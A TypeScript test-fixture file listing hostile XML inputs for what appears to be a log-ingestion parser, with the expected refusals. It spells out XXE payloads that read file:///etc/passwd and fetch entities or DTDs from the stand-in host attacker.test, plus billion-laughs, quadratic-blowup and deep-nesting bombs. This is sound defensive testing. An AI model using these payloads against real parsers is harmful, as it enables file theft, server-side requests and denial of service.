/** Hostile markup: DTDs and entities (never expanded), nesting, NUL bytes. */
import { encodeText } from '../../samples/render-events.ts';
import { fluentBitJsonLine } from '../../samples/shipper-shapes.ts';
import { bytesOf, failure, leak, morning, serverError, utf8, xml } from './case-events.ts';
import type { HostileCase } from './hostile-case.ts';

const Refused = /<!DOCTYPE> declaration refused: hivewatch never expands DTDs or entities/;
const NothingStored = { rejected: true, newSignals: 0, incidents: [], alerts: [] } as const;

const xxe =
  '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE Event [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n';
const laughs = `<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
).join('')}]>\n`;
const wide = `<!DOCTYPE Event [<!ENTITY a "${'a'.repeat(100_000)}">]>\n`;
const subset =
  '<?xml version="1.0" encoding="utf-8" standalone="yes"?>\n' +
  '<!DOCTYPE Events [<!ELEMENT Events ANY><!ATTLIST Event xmlns CDATA #FIXED "x">]>\n<Events>';
const jsonLines = [
  fluentBitJsonLine(leak()),
  fluentBitJsonLine(failure()).replace(
    '"System":"<Event',
    '"System":"<!DOCTYPE e [<!ENTITY x \\"y\\">]><Event',
  ),
  fluentBitJsonLine(serverError()).replace(
    '<System>',
    '<System><!ENTITY x SYSTEM \\"http://attacker.test/\\">',
  ),
];
const withData = (text: string) =>
  xml(serverError()).replace('</EventData>', `<Data>${text}</Data></EventData>`);
const nested = (depth: number, closed: boolean) =>
  `${'<a>'.repeat(depth)}${closed ? '</a>'.repeat(depth) : ''}`;
/** Where the event `text` (after `before`) has its 10,001st element: where the reader stops parsing it. */
function elementAt(before: string, text: string): number {
  let at = -1;
  for (let n = 0, i = 0; n <= 10_000; n++, i = at + 1) at = text.slice(i).search(/<[A-Za-z]/) + i;
  return bytesOf(before) + at;
}

export const xmlCases: HostileCase[] = [
  {
    name: 'xxe-external-entity',
    input: 'DOCTYPE declaring a SYSTEM entity (file:///etc/passwd), used in a 1530 Data',
    expected:
      'object refused whole at the DOCTYPE (fatal error, its offset); nothing expanded, read or stored',
    bytes: () => utf8(`${xxe}${xml(leak()).replace('</Data>', '&xxe;</Data>')}${xml(failure())}`),
    reader: {
      rejected: true,
      events: 0,
      decoded: 0,
      errors: [{ reason: Refused, offset: xxe.indexOf('<!DOCTYPE'), fatal: true }],
    },
    ingest: { ...NothingStored, errors: 1 },
  },
  {
    name: 'entity-after-events',
    input: 'the morning (leak and failures), then `<!ENTITY x SYSTEM "http://…">` between events',
    expected: 'the events before are read, but the object is refused whole: none of its signals stored',
    bytes: () => utf8(`${morning()}\n<!ENTITY x SYSTEM "http://attacker.test/x">\n${xml(failure())}`),
    reader: {
      rejected: true,
      events: 3,
      errors: [{ reason: /<!ENTITY> declaration refused/, offset: bytesOf(`${morning()}\n`), fatal: true }],
    },
    ingest: { ...NothingStored, errors: 1 },
  },
  {
    name: 'billion-laughs',
    input: `the classic 10-level entity bomb (${laughs.length} bytes, 10^9 'lol' if expanded), then an event`,
    expected: 'refused at the DOCTYPE in microseconds: no expansion, no memory',
    bytes: () => utf8(`${laughs}${xml(leak()).replace('</Data>', '&lol9;</Data>')}`),
    reader: {
      rejected: true,
      events: 0,
      errors: [{ reason: Refused, offset: laughs.indexOf('<!DOCTYPE'), fatal: true }],
      maxMs: 200,
      maxLiveMb: 32,
    },
    ingest: { ...NothingStored, errors: 1 },
  },
  {
    name: 'quadratic-blowup',
    input: 'a 100 KB entity referenced 20,000 times in one Data (2 GB if expanded)',
    expected: 'refused at the DOCTYPE: no expansion, linear time',
    bytes: () => utf8(`${wide}${withData('&a;'.repeat(20_000))}`),
    reader: {
      rejected: true,
      events: 0,
      errors: [{ reason: Refused, offset: 0, fatal: true }],
      maxMs: 500,
      maxLiveMb: 32,
    },
    ingest: { ...NothingStored, errors: 1 },
  },
  {
    name: 'undefined-entities',
    input: "200,000 references to an undeclared entity (`&a;`) in a failure's Data, no DTD",
    expected: 'kept as written (nothing to expand), the event and its signal read, linear time',
    bytes: () => utf8(`${xml(leak())}${withData('&a;'.repeat(200_000))}`),
    reader: { rejected: false, events: 2, signals: 2, errors: [], maxMs: 2000 },
    ingest: { events: 2, newSignals: 2, errors: 0, incidents: [['app01', 'open', 1]], alerts: ['opened'] },
  },
  {
    name: 'doctype-internal-subset',
    input: 'Event Viewer export with `<!DOCTYPE Events [<!ELEMENT …><!ATTLIST …>]>` (no entity)',
    expected: 'refused whole: any DTD is refused, not only entities',
    bytes: () => utf8(`${subset}${morning()}</Events>`),
    reader: {
      rejected: true,
      events: 0,
      errors: [{ reason: Refused, offset: subset.indexOf('<!DOCTYPE'), fatal: true }],
    },
    ingest: { ...NothingStored, errors: 1 },
  },
  {
    name: 'doctype-utf16',
    input: 'the morning in UTF-16LE (BOM), a DOCTYPE after its first event',
    expected: 'refused whole; the error offset counts UTF-16 bytes (BOM included)',
    bytes: () => encodeText(`${xml(leak())}<!DOCTYPE x [<!ENTITY y "z">]>${morning()}`, 'utf-16le'),
    reader: {
      rejected: true,
      events: 1,
      errors: [{ reason: Refused, offset: 2 + 2 * xml(leak()).length, fatal: true }],
    },
    ingest: { ...NothingStored, errors: 1 },
  },
  {
    name: 'doctype-in-json',
    input:
      'Fluent Bit JSON lines: a record whose System starts `<!DOCTYPE …>`, then one with `<!ENTITY` inside its event',
    expected:
      "the first is not event XML (an error, nothing expanded); the second refuses the object at its record's offset",
    bytes: () => utf8(jsonLines.join('')),
    reader: {
      rejected: true,
      events: 1,
      errors: [
        { reason: /carries no event XML/, offset: bytesOf(jsonLines[0] as string) },
        {
          reason: /in the JSON field System: <!ENTITY> declaration refused/,
          offset: bytesOf(jsonLines.slice(0, 2).join('')),
          fatal: true,
        },
      ],
    },
    ingest: { ...NothingStored, errors: 2 },
  },
  {
    name: 'parameter-entity-in-event',
    input: 'a parameter entity (`<!ENTITY % p SYSTEM "http://…">%p;`) inside a 1530\'s System',
    expected: 'refused whole at the declaration, nothing fetched',
    bytes: () =>
      utf8(
        `${xml(serverError())}${xml(leak()).replace('<System>', '<System><!ENTITY % p SYSTEM "http://attacker.test/p.dtd">%p;')}`,
      ),
    reader: {
      rejected: true,
      errors: [
        {
          reason: /<!ENTITY> declaration refused/,
          offset: bytesOf(xml(serverError())) + xml(leak()).indexOf('<System>') + 8,
          fatal: true,
        },
      ],
    },
    ingest: { ...NothingStored, errors: 1 },
  },
  {
    name: 'deep-nesting',
    input:
      'the leak; a failure with 500,000 nested elements, closed (3.5 MB); one with 1,000,000 never closed; a failure',
    expected:
      'each nested one a malformed-event error where its 10,001st element starts; no recursion; the rest read',
    bytes: () =>
      utf8(
        xml(leak()) + withData(nested(500_000, true)) + withData(nested(1_000_000, false)) + xml(failure()),
      ),
    reader: {
      events: 4,
      signals: 2,
      errors: [
        {
          reason: /more than 10000 elements/,
          offset: elementAt(xml(leak()), withData(nested(500_000, true))),
        },
        {
          reason: /more than 10000 elements/,
          offset: elementAt(
            xml(leak()) + withData(nested(500_000, true)),
            withData(nested(1_000_000, false)),
          ),
        },
      ],
      maxMs: 3000,
      maxLiveMb: 128,
    },
    ingest: { events: 4, newSignals: 2, errors: 2, incidents: [['app01', 'open', 1]], alerts: ['opened'] },
  },
  {
    name: 'element-flood',
    input: 'a failure whose Data holds 1,000,000 empty elements (`<a/>`, 4 MB: just under maxEventBytes)',
    expected: 'a malformed-event error (more than 10,000 elements) in bounded memory; the leak after it read',
    bytes: () => utf8(withData('<a/>'.repeat(1_000_000)) + xml(leak())),
    reader: {
      events: 2,
      signals: 1,
      errors: [
        { reason: /more than 10000 elements/, offset: elementAt('', withData('<a/>'.repeat(1_000_000))) },
      ],
      maxMs: 3000,
      maxLiveMb: 128,
    },
    ingest: {
      events: 2,
      newSignals: 1,
      errors: 1,
      incidents: [['app01', 'at-risk', 0]],
      alerts: ['at-risk'],
    },
  },
  {
    name: 'nul-bytes',
    input: "raw NUL bytes and `&#0;` in a failure's Data, 1 KB of NULs between events, then the leak",
    expected:
      'NULs in Data kept as data (event read); the NUL run reported once as junk; alert shows them as \\u0000',
    bytes: () => utf8(`${withData('before\u0000\u0000&#0;after')}\n${'\u0000'.repeat(1024)}\n${xml(leak())}`),
    reader: {
      events: 2,
      signals: 2,
      errors: [
        {
          reason: /unexpected content between events/,
          offset: bytesOf(`${withData('before\u0000\u0000&#0;after')}\n`),
        },
      ],
    },
    ingest: {
      events: 2,
      newSignals: 2,
      errors: 1,
      incidents: [['app01', 'open', 1]],
      alerts: ['opened'],
      check: (o) =>
        o.alerts.some((a) => a.body.includes('\u0000') || a.subject.includes('\u0000'))
          ? ['a NUL reached the alert text']
          : [],
    },
  },
];
